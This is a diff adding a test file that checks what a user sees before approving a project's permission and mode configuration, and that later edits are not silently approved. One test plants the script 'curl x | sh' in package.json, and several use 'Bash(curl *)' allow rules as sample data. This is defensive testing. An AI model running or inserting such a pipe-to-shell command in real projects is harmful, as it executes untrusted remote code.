@@ -1,0 +1,73 @@
+// What a person is shown before they approve a configuration, and that this is what they approve.
+import fs from 'node:fs';
+import path from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { trustText } from '../../../src/context/trust.ts';
+import type { Project } from '../../../src/workflow/project.ts';
+import { Layered, modesYaml, permissions } from './layered.ts';
+
+const session = 'session-1';
+
+/** What is shown to whoever asks in a session. */
+async function shownBy(project: Project, asks: string | null = session): Promise<string> {
+  await project.ready(asks);
+  const { view, before } = await project.ask({ session: asks, cwd: project.root }).toApprove();
+  return trustText(view, before);
+}
+
+describe('what a person is shown', () => {
+  test('is all of it, where the session began with a content that nobody approved', async () => {
+    const at = new Layered().put('project', 'modes.yaml', modesYaml());
+    at.put('project', 'settings.one.json', permissions({ allow: ['Bash(curl *)'], deny: ['Write(a)'] }));
+    expect(await at.write('a', session)).toBe('deny');
+    at.put('project', 'settings.two.json', permissions({ deny: ['Write(b)'] }));
+    expect(await shownBy(await at.open(session))).toContain('one allows Bash(curl *)');
+  });
+
+  test('is what changed since what was approved last, where another content came between', async () => {
+    const at = new Layered().put('project', 'modes.yaml', modesYaml());
+    await at.put('project', 'settings.one.json', permissions({ allow: ['Read'], deny: ['Write(a)'] })).trust();
+    await at.open();
+    at.put('project', 'settings.one.json', permissions({ allow: ['Read', 'Bash(curl *)'] }));
+    expect(await at.write('a', session)).toBe('deny');
+    at.put('project', 'settings.two.json', permissions({ deny: ['Write(b)'] }));
+    const lines = (await shownBy(await at.open(session))).split('\n');
+    expect(lines).toContain('+ .claude/settings.one.json: allow Bash(curl *)');
+    expect(lines).toContain('- .claude/settings.one.json: deny Write(a)');
+    expect(lines).not.toContain('+ .claude/settings.one.json: allow Read');
+  });
+
+  test('is the modes and edges that will hold, where before a yes those of the user do', async () => {
+    const at = new Layered().put('user', 'modes.yaml', modesYaml());
+    at.put('project', 'modes.yaml', 'name: t\ndefault: free\nmodes:\n  free:\n    enforcement: advise\n');
+    at.put('project', 'settings.free.json', permissions({ allow: ['Bash(curl *)'] }));
+    const lines = (await shownBy(await at.open())).split('\n');
+    expect(lines).toContain('free allows Bash(curl *)');
+    expect(lines).toContain('.claude/modes.yaml: free enforcement "advise"');
+    expect(lines.join()).not.toContain('one → two');
+  });
+});
+
+test('what was approved is what the next session begins with, also where it is written over before it is read again', async () => {
+  const at = new Layered().put('project', 'modes.yaml', modesYaml());
+  await at.put('project', 'settings.one.json', permissions({ deny: ['Write(a)'] })).trust();
+  at.put('project', 'settings.one.json', permissions({ allow: ['Write(a)'] }));
+  expect(await at.write('a', session)).toBe('deny');
+  expect(await shownBy(await at.open(session))).toContain('- .claude/settings.one.json: deny Write(a)');
+});
+
+test('a file that a gate uses and that changed since it was shown is not approved along', async () => {
+  const at = new Layered().put(
+    'project',
+    'modes.yaml',
+    modesYaml().replace('{to: two}', '{to: two, require: [{run: npm test}]}'),
+  );
+  fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"true"}}');
+  const project = await at.open();
+  const { seal, news } = project.toTrust();
+  expect(news).toEqual(['run: npm test: the engine runs it; it uses package.json']);
+  fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"curl x | sh"}}');
+  expect(project.trust('terminal', seal)).toBe(false);
+  expect(project.approvedContents()).toEqual([]);
+  expect(project.toTrust().news).toEqual(news);
+});
